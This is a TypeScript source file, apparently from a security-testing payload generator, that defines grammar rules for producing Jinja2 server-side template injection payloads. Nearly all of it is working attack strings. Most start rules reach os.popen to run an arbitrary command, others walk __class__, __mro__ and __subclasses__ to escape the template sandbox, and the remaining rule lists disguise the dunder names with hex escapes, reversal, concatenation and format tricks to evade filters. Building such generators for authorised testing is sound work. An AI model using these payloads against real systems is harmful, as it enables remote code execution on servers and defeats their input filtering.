// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the notation of templates
import { templateGenerator } from '../template-generator.js';

/** Jinja with none of the names written down: filters, escapes, concatenations. */
export const jinjaFilters = templateGenerator({
  name: 'jinja-filters',
  engines: ['jinja2'],
  rules: {
    start: [
      "{o} lipsum|attr({dunder-globals})|attr('get')('os')|attr('popen')('{command}')|attr('read')() {c}",
      "{o} ''|attr({dunder-class})|attr({dunder-mro}) {c}",
      "{o} lipsum[{dunder-globals}]['o'+'s']['po'~'pen']('{command}')['read']() {c}",
      "{l}% set u = '_'*2 %{r}{o} lipsum[u~'glo'~'bals'~u].os.popen('{command}').read() {c}",
      "{l}% set p = dict(po=a,pen=b)|join %{r}{o} lipsum|attr({dunder-globals})|attr('get')('os')|attr(p)('{command}')|attr('read')() {c}",
      "{o} (cycler|attr({dunder-init})|attr({dunder-globals})).get('os').popen('{command}').read() {c}",
      "{o} ()|attr({dunder-class})|attr('{base}')|attr({dunder-sub})()|list {c}",
      '{o} [][{dunder-class}] {c}',
    ],
    'dunder-globals': [
      "'__globals__'",
      "'\\x5f\\x5fglobals\\x5f\\x5f'",
      "'_'+'_globals_'+'_'",
      "'__glo'~'bals__'",
      "'__slabolg__'|reverse",
      "'__GLOBALS__'|lower",
      "'%c%cglobals__'|format(95,95)",
      "['__glo','bals__']|join",
    ],
    'dunder-class': [
      "'__class__'",
      "'__cla'~'ss__'",
      "'\\x5f_class_\\x5f'",
      "'__ssalc__'|reverse",
      "['__cl','ass__']|join",
      "'\\u005f_class__'",
    ],
    'dunder-mro': ["'__mro__'", "'__m'+'ro__'", "'__orm__'|reverse"],
    'dunder-init': ["'__init__'", "'__in'~'it__'", "'\\x5f_init__'"],
    'dunder-sub': ["'__subclasses__'", "'__sub'~'classes__'", "'__SUBCLASSES__'|lower"],
    base: ['__base__', '\\x5f_base__'],
  },
});
